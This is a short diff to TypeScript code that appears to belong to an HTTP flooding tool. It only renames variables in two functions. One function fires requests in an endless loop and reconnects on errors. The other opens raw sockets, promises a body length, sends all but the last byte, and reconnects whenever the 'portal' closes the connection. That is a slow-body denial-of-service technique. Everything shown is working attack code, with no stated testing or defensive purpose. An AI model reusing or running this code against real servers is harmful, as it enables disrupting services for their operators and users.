@@ -22,17 +22,17 @@ function repeat(url: URL, agent: Agent, flood: Flood): void {
   const next = () => repeat(url, agent, flood);
   const length = { "content-length": String(Buffer.byteLength(body)) };
   const address = { host: url.hostname, port: url.port, path };
-  const asked = request({ agent, method, ...address, headers: { ...headers, ...length } });
-  asked.on("response", (answer) => {
+  const clientRequest = request({ agent, method, ...address, headers: { ...headers, ...length } });
+  clientRequest.on("response", (answer) => {
     count(answer.statusCode ?? 0);
     answer.resume();
     answer.on("close", next);
   });
-  asked.on("error", () => {
+  clientRequest.on("error", () => {
     flooded.ended++;
     again(next);
   });
-  asked.end(body);
+  clientRequest.end(body);
 }
 
 /** Sends all of a body but its end, and connects again when the portal has closed the connection. */
@@ -42,12 +42,12 @@ function hold(url: URL, flood: Flood): void {
   const socket = connect(Number(url.port), url.hostname);
   const lines = Object.entries({ host: url.hostname, ...headers, "content-length": String(promisedBytes) });
   socket.write(`${method} ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join("")}\r\n`);
-  let left = promisedBytes - 1 - Buffer.byteLength(body);
+  let remainingBytes = promisedBytes - 1 - Buffer.byteLength(body);
   socket.write(body);
   const fill = () => {
-    while (left > 0 && !socket.destroyed) {
-      const part = PART.subarray(0, Math.min(left, PART.length));
-      left -= part.length;
+    while (remainingBytes > 0 && !socket.destroyed) {
+      const part = PART.subarray(0, Math.min(remainingBytes, PART.length));
+      remainingBytes -= part.length;
       if (!socket.write(part)) return;
     }
   };
